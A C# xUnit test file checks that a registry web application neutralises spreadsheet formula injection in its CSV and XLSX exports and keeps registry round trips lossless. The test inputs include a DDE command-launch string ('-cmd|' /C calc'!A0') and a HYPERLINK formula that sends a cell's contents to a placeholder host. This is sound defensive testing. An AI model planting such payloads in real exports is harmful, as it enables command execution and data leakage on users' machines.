using System.IO.Compression;
using System.Net;
using System.Net.Http.Json;
using System.Text;
using System.Text.Json.Nodes;
using Maillage.Core.Data;
using Maillage.Core.Infrastructure.Tabular;
using Maillage.Core.Infrastructure.Security;
using Maillage.Domain.Registry;
using Maillage.Testing;
using Microsoft.EntityFrameworkCore;
using Microsoft.Extensions.DependencyInjection;
using Xunit;

namespace Maillage.Web.Tests.Security;

/// <summary>
/// Every CSV and XLSX Maillage writes neutralises spreadsheet formulas through one policy (<see cref="FormulaGuard"/>,
/// docs/security.md "Exports"), and the registry round trip stays lossless (docs/formats/registry.md).
/// </summary>
public sealed class FormulaInjectionTests
{
    private static CancellationToken Ct => TestContext.Current.CancellationToken;

    private const string Formula = "=HYPERLINK(\"http://exemple.invalid/?\"&A1;\"Cliquez\")";
    private const string Apostrophe = "'=1+1 (apostrophe d'origine)";

    [Theory]
    [InlineData("=1+1", "'=1+1")]
    [InlineData("+33 1 23 45 67 89", "'+33 1 23 45 67 89")]
    [InlineData("-cmd|' /C calc'!A0", "'-cmd|' /C calc'!A0")]
    [InlineData("@SUM(A1)", "'@SUM(A1)")]
    [InlineData("\t=1", "'\t=1")]
    [InlineData("\r=1", "'\r=1")]
    [InlineData("'=1", "''=1")]
    [InlineData("''@x", "'''@x")]
    [InlineData("-12", "-12")]
    [InlineData("-3.5", "-3.5")]
    [InlineData("+4", "+4")]
    [InlineData("-", "'-")]
    [InlineData("-2+3", "'-2+3")]
    [InlineData("'-3", "''-3")]
    [InlineData("Centre = hôpital", "Centre = hôpital")]
    [InlineData("'bonjour", "'bonjour")]
    [InlineData("", "")]
    public void A_cell_is_neutralised_once_and_restored_exactly(string value, string written)
    {
        Assert.Equal(written, FormulaGuard.Neutralise(value));
        Assert.Equal(value, FormulaGuard.Restore(written));
        Assert.Equal(value, FormulaGuard.Restore(FormulaGuard.Neutralise(value)));
    }

    [Fact]
    public void The_csv_and_xlsx_writers_neutralise_and_keep_numbers()
    {
        var csv = Encoding.UTF8.GetString(CsvTable.ToBytes(["a", "b", "c"], [[Formula, "-12.5", "@x"]])).TrimStart('\uFEFF');
        var cells = CsvTable.Parse(csv)[1].Cells;
        Assert.Equal(["'" + Formula, "-12.5", "'@x"], cells);
        using var ms = new MemoryStream();
        XlsxTable.Write(ms, [TableSheet.FromRows("t", ["a", "b", "c"], [[Formula, "-12.5", "@x"]])]);
        ms.Position = 0;
        Assert.Equal(["'" + Formula, "-12.5", "'@x"], XlsxTable.Read(ms, restoreFormulas: false)[0].Rows[0].Cells);
        // The readers undo it: read-then-write changes nothing.
        ms.Position = 0;
        Assert.Equal([Formula, "-12.5", "@x"], XlsxTable.Read(ms)[0].Rows[0].Cells);
        Assert.Equal([Formula, "-12.5", "@x"], CsvTable.Read("t.csv", csv).Rows[0].Cells);
    }

    private static List<string> Cells(string csv) =>
        CsvTable.Parse(csv.TrimStart('\uFEFF')).SelectMany(r => r.Cells).ToList();

    private static void AssertNeutralised(IReadOnlyCollection<string> cells, string what)
    {
        Assert.True(cells.Contains("'" + Formula), $"{what}: the planted formula is not written with its apostrophe");
        Assert.DoesNotContain(cells, c => c.StartsWith('=') || c.StartsWith('@'));
    }

    [Theory, MemberData(nameof(Databases.All), MemberType = typeof(Databases))]
    public async Task Every_export_neutralises_a_formula_planted_in_a_name(DatabaseProvider provider)
    {
        await using var app = new MaillageFactory(provider);
        string centreId;
        await using (var s = app.Services.CreateAsyncScope())
        {
            var db = s.ServiceProvider.GetRequiredService<MaillageDbContext>();
            var centre = await db.Centres.Include(c => c.Network)
                .Where(c => c.Kind == CentreKind.ReferenceSite && c.Role == SiteRole.Coordinating && c.ClosedOn == null)
                .OrderBy(c => c.Id).FirstAsync(Ct);
            centre.Name = Formula;
            centre.Network!.Name = Formula;
            centreId = centre.Id;
            await db.SaveChangesAsync(Ct);
        }
        using var anonymous = app.CreateClient();
        using var admin = await app.ApiClientAsync(UserRole.NationalAdmin, null);

        AssertNeutralised(Cells(await anonymous.GetStringAsync(new Uri(Routes.Api.Directory + "/export?format=csv", UriKind.Relative), Ct)), "directory CSV");
        AssertNeutralised(Cells(await anonymous.GetStringAsync(new Uri(Routes.Api.Directory + "/orphanet-list", UriKind.Relative), Ct)), "Orphanet list");
        var year = DateTime.UtcNow.Year - 1;
        AssertNeutralised(Cells(await anonymous.GetStringAsync(new Uri($"{Routes.Api.Labelling}/lists/{year}?format=csv", UriKind.Relative), Ct)), "yearly list");
        AssertNeutralised(Cells(await anonymous.GetStringAsync(new Uri(Routes.Pages.Structures + "/export?format=csv", UriKind.Relative), Ct)), "structures list");

        var zip = await admin.GetByteArrayAsync(new Uri(Routes.Api.Registry + "/export?format=zip", UriKind.Relative), Ct);
        using (var archive = new ZipArchive(new MemoryStream(zip)))
        {
            foreach (var name in new[] { "centres.csv", "networks.csv" })
            {
                using var reader = new StreamReader(archive.GetEntry(name)!.Open(), Encoding.UTF8);
                AssertNeutralised(Cells(await reader.ReadToEndAsync(Ct)), "registry " + name);
            }
        }
        var xlsx = await admin.GetByteArrayAsync(new Uri(Routes.Api.Registry + "/export?format=xlsx", UriKind.Relative), Ct);
        var sheets = XlsxTable.Read(new MemoryStream(xlsx), restoreFormulas: false);
        AssertNeutralised(sheets.Single(t => t.Name == "centres").Rows.SelectMany(r => r.Cells).ToList(), "registry XLSX");
        Assert.Contains(centreId, sheets.Single(t => t.Name == "centres").Rows.Select(r => r[0]));
    }

    [Theory, MemberData(nameof(Databases.All), MemberType = typeof(Databases))]
    public async Task The_registry_round_trip_of_a_neutralised_value_is_byte_identical(DatabaseProvider provider)
    {
        await using var app = new MaillageFactory(provider);
        string formulaId, apostropheId;
        await using (var s = app.Services.CreateAsyncScope())
        {
            var db = s.ServiceProvider.GetRequiredService<MaillageDbContext>();
            var two = await db.Centres.Where(c => c.ClosedOn == null).OrderBy(c => c.Id).Take(2).ToListAsync(Ct);
            two[0].Name = Formula;
            two[1].Name = Apostrophe;
            (formulaId, apostropheId) = (two[0].Id, two[1].Id);
            await db.SaveChangesAsync(Ct);
        }
        using var admin = await app.ApiClientAsync(UserRole.NationalAdmin, null);

        foreach (var format in new[] { "zip", "xlsx" })
        {
            var first = await admin.GetByteArrayAsync(new Uri($"{Routes.Api.Registry}/export?format={format}", UriKind.Relative), Ct);
            using var form = new MultipartFormDataContent { { new ByteArrayContent(first), "file", "registre." + format } };
            using var import = await admin.PostAsync(new Uri(Routes.Api.Registry + "/import", UriKind.Relative), form, Ct);
            var text = await import.Content.ReadAsStringAsync(Ct);
            Assert.True(import.StatusCode == HttpStatusCode.OK, text);
            var result = JsonNode.Parse(text)!;
            Assert.Equal(0, result["created"]!.GetValue<int>());
            Assert.True(result["updated"]!.GetValue<int>() == 0, format + ": " + text);

            await using (var s = app.Services.CreateAsyncScope())
            {
                var db = s.ServiceProvider.GetRequiredService<MaillageDbContext>();
                Assert.Equal(Formula, await db.Centres.Where(c => c.Id == formulaId).Select(c => c.Name).SingleAsync(Ct));
                Assert.Equal(Apostrophe, await db.Centres.Where(c => c.Id == apostropheId).Select(c => c.Name).SingleAsync(Ct));
            }
            var second = await admin.GetByteArrayAsync(new Uri($"{Routes.Api.Registry}/export?format={format}", UriKind.Relative), Ct);
            if (format == "zip")
            {
                Assert.Equal(Entry(first, "centres.csv"), Entry(second, "centres.csv"));
                Assert.Contains("''=1+1", Encoding.UTF8.GetString(Entry(first, "centres.csv")), StringComparison.Ordinal);
            }
            else
            {
                var a = XlsxTable.Read(new MemoryStream(first), restoreFormulas: false).Single(t => t.Name == "centres");
                var b = XlsxTable.Read(new MemoryStream(second), restoreFormulas: false).Single(t => t.Name == "centres");
                Assert.Equal(a.Rows.Select(r => string.Join('\u001F', r.Cells)), b.Rows.Select(r => string.Join('\u001F', r.Cells)));
                Assert.Contains(a.Rows, r => r.Cells.Contains("''=1+1 (apostrophe d'origine)"));
            }
        }
    }

    private static byte[] Entry(byte[] zip, string name)
    {
        using var archive = new ZipArchive(new MemoryStream(zip));
        using var entry = archive.GetEntry(name)!.Open();
        using var ms = new MemoryStream();
        entry.CopyTo(ms);
        return ms.ToArray();
    }
}
